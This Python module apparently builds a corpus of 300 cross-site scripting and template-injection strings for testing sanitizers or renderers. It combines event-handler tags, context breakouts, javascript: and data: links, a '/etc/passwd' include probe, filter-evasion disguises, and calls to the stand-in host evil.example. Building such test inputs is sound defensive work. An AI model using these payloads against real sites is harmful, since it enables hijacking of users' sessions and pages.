"""Texts that would act if anything let them: every way in, times every act, times some disguises."""

from collections.abc import Iterator
from itertools import chain, cycle, product

COUNT = 300

ACTS = ("alert(1)", "fetch('//evil.example')", "document.body.innerHTML=1", "top['al'+'ert'](1)")
ELEMENTS = (
    "<script>{act}</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror={act}>",
    "<svg onload={act}>",
    "<svg><script>{act}</script></svg>",
    "<svg><animate onbegin={act} attributeName=x></svg>",
    "<iframe srcdoc='<script>{act}</script>'></iframe>",
    "<iframe src=javascript:{act}></iframe>",
    "<object data=javascript:{act}></object>",
    "<embed src=javascript:{act}>",
    "<body onload={act}>",
    "<details open ontoggle={act}>",
    "<input autofocus onfocus={act}>",
    "<form action=javascript:{act}><button>x</button></form>",
    "<a href=javascript:{act}>x</a>",
    "<math><mi xlink:href=javascript:{act}>x</mi></math>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:{act}'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example'</style>",
    "<video><source onerror={act}></video>",
    "<template><script>{act}</script></template>",
)
BREAKS = (
    '"><{}',
    "'><{}",
    "</textarea><{}",
    "</title><{}",
    "--><{}",
    "]]><{}",
    "</script><{}",
    "</option></select><{}",
)
ATTRIBUTES = (
    '" onmouseover="{act}" x="',
    "' onmouseover='{act}' x='",
    '" autofocus onfocus={act} x="',
    "` onload={act} `",
)
LINKS = (
    "[x](javascript:{act})",
    "[x](JaVaScRiPt:{act})",
    "[x](java\tscript:{act})",
    "[x](&#106;avascript:{act})",
    "[x](data:text/html,<script>{act}</script>)",
    "[x](vbscript:{act})",
    "[x](//evil.example)",
    "![x](javascript:{act})",
    "![x](https://evil.example/a.png)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "<javascript:{act}>",
    "[[javascript:{act}]]",
    "[[javascript:{act}|x]]",
    "[[javascript:{act}][x]]",
    "[x]: javascript:{act}\n\n[x]",
    '[x](https://a.b "" onclick={act} x="")',
    '[["><img src=x onerror={act}>]]',
    "`</code><script>{act}</script>`",
    '```" onload={act}\nx\n```',
    "| <script>{act}</script> |\n|---|\n| x |",
)
TEMPLATES = ("{{{{ 7*7 }}}}{act}", "{{% include '/etc/passwd' %}}{act}", "${{{act}}}", "<%= {act} %>")


def payloads() -> list[str]:
    """Three hundred of them, no two alike."""
    return list(dict.fromkeys(_made()))[:COUNT]


def _made() -> Iterator[str]:
    elements = [item.format(act=act) for act, item in product(ACTS, ELEMENTS)]
    breaks = (item.format(element[1:]) for item, element in zip(cycle(BREAKS), elements, strict=False))
    others = (item.format(act=act) for act, item in product(ACTS, (*ATTRIBUTES, *LINKS, *TEMPLATES)))
    disguised = (_disguised(element, place) for place, element in enumerate(elements))
    rows = [list(item) for item in (elements, breaks, others, disguised)]
    yield from chain.from_iterable(
        (row[place] for row in rows if place < len(row)) for place in range(max(map(len, rows)))
    )


def _disguised(text: str, place: int) -> str:
    """Other letters' cases, a slash for a blank, a NUL's neighbour, a tag that is never closed."""
    if place % 4 == 0:
        return text.swapcase()
    if place % 4 == 1:
        return text.replace(" ", "/", 1)
    if place % 4 == 2:
        return text.replace("<", "<\x0b", 1) + text
    return text.rstrip(">")
